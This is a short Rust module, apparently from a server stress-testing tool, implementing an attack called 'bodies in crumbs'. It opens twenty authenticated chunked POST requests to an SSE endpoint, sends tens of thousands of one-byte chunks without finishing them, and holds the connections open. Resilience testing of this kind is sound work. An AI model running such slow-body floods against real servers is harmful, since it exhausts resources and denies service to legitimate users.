//! Bodies arrive a byte at a time, in chunks of one byte each, and are not finished.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, FROM_ELSEWHERE, Target, head, token};

#[derive(Debug)]
pub(crate) struct BodiesInCrumbs;

impl Attack for BodiesInCrumbs {
    fn name(&self) -> &'static str {
        "bodies in crumbs"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let more = format!(
                "{FROM_ELSEWHERE}Authorization: Bearer {}\r\nContent-Type: application/json\r\n\
                 Transfer-Encoding: chunked\r\n",
                token()
            );
            let begun = head("POST", "/sse/send", &more) + &"1\r\nx\r\n".repeat(50_000);
            let mut held = Vec::new();
            for _ in 0..20 {
                held.extend(target.say(&begun).await.ok());
            }
            sleep(Duration::from_secs(2)).await;
        })
    }
}
